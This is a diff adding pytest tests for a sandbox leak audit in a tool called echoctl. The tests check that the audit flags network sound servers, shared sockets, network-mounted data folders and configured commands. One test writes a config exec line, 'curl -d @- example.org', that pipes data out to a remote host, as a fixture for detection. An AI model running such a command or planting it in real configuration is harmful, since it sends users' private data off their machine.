@@ -1,0 +1,71 @@
+from pathlib import Path
+
+import pytest
+
+from echoctl import paths
+from echoctl.services.sandbox import levels
+from echoctl.services.system import audit_leaks
+from echoctl.services.system.health import Check, Grade
+from tests.lab.sound import SoundLab
+
+
+def leak(name: str, holds: str = levels.NAMESPACE, hidden: tuple[str, ...] = ()) -> Check:
+    return next(check for check in audit_leaks.leaks(holds, list(hidden)) if check.name == name)
+
+
+def test_a_sound_server_across_the_network_is_said(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("PULSE_SERVER", "tcp:kitchen")
+    assert "tcp:kitchen" in leak("sound server").text
+
+
+@pytest.mark.lab
+def test_a_sound_server_that_sends_is_said_with_the_cure(sound_lab: SoundLab) -> None:
+    assert leak("sound server").grade is Grade.OK
+    sound_lab.pactl("load-module", "module-native-protocol-tcp", "listen=127.0.0.1", "port=47131")
+    found = leak("sound server")
+    assert found.grade is Grade.NOTE
+    assert found.fix == "pactl unload-module module-native-protocol-tcp"
+
+
+@pytest.mark.parametrize("name", ["module-tunnel-sink-new", "module-native-protocol-tcp", "module-raop-sink"])
+def test_each_way_of_sound_over_a_network_is_known(name: str) -> None:
+    assert audit_leaks.NETWORK_MODULES.findall(f"7\t{name}\tserver=kitchen") == [name]
+    assert not audit_leaks.NETWORK_MODULES.findall("8\tmodule-native-protocol-unix\t")
+
+
+def test_services_that_send_are_named_covered_or_not(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(audit_leaks.brokers, "SYSTEM", ("/usr",))
+    for name in ("XDG_RUNTIME_DIR", "DBUS_SESSION_BUS_ADDRESS", "SSH_AUTH_SOCK"):
+        monkeypatch.delenv(name, raising=False)
+    found = leak("local services", levels.SECCOMP)
+    assert (found.grade, found.text.endswith(": /usr"), bool(found.fix)) == (Grade.NOTE, True, True)
+    assert leak("local services", levels.NAMESPACE).grade is Grade.NOTE
+    found = leak("local services", levels.NAMESPACE, ("/usr", paths.keys_dir()))
+    assert (found.grade, found.text) == (Grade.OK, "that send for others are covered for the listener: /usr")
+
+
+def test_a_command_of_the_configuration_is_outside_the_seal(home: Path) -> None:
+    assert leak("plugins, --exec").grade is Grade.OK
+    paths.private_dir(paths.config_dir())
+    Path(paths.config_file()).write_text('[listen]\nexec = "curl -d @- example.org"\n')
+    assert "listen.exec = curl" in leak("plugins, --exec").text
+
+
+@pytest.mark.parametrize(
+    ("line", "grade"),
+    [
+        ("36 25 0:33 / {data} rw - nfs4 nas:/home rw", Grade.NOTE),
+        ("36 25 0:33 / {data} rw - fuse.sshfs x rw", Grade.NOTE),
+        ("36 25 0:33 / {data} rw - ext4 /dev/sda1 rw", Grade.OK),
+    ],
+)
+def test_a_data_folder_on_a_network_is_said(
+    line: str, grade: Grade, home: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    table = ["1 0 8:1 / / rw - ext4 /dev/sda1 rw", line.format(data=paths.data_dir())]
+    monkeypatch.setattr(audit_leaks, "_mounts", lambda: table)
+    assert leak("data folder").grade is grade
+
+
+def test_what_no_seal_prevents_is_stated() -> None:
+    assert "same microphone" in leak("other programs").text
